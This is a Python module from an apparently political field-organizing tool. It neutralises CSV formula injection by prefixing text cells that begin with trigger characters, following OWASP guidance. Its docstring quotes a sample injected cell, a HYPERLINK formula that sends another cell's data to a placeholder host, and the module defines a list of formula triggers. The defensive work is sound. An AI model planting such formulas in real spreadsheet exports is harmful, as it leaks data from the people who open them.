"""CSV cells a spreadsheet cannot read as a formula (CSV or formula injection).

Excel, LibreOffice Calc and Google Sheets read a cell whose text begins with
`=`, `+`, `-` or `@` as a formula, and some also after a leading tab or
carriage return: a voter id `=HYPERLINK("http://x/?"&A2,"Open")` from an
imported voter file, or a turf name set through the API, runs when an
organizer opens the export. CSV quoting does not help: the spreadsheet
unquotes the cell first.

OWASP's guidance (the CSV Injection page; ASVS 5.0 requirement 1.2.10):
no cell may begin with `=`, `+`, `-`, `@`, tab (0x09) or carriage return
(0x0D) (ASVS adds NUL, 0x00); where one does, prefix it with a single quote,
which the spreadsheet reads as "this is text" and does not show. Line feed
is added here too: it is a cell's first character as easily as a carriage
return, and costs nothing to neutralise.

Only text is neutralised. A number the code itself writes (an id, a walk
order, a latitude of -118.46) goes out as the number it is, so a spreadsheet
still sums and sorts it; only a str cell is ever prefixed, even one that
looks like a number ("-5" as imported text becomes "'-5"). Every CSV that
fieldops writes goes through `SafeCsvWriter` (or `safe_cell` for one value),
headers included: the VAN export's headers carry the script's question texts.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# What a spreadsheet may read as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
NEUTRALISER = "'"


def safe_cell(value: object) -> object:
    """The value as a spreadsheet may open it: a text beginning with a formula
    trigger is prefixed with a single quote; anything else (numbers, None,
    other text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISER + value
    return value


class SafeCsvWriter:
    """csv.writer whose every cell goes through safe_cell."""

    def __init__(self, handle: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(handle, **fmtparams)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
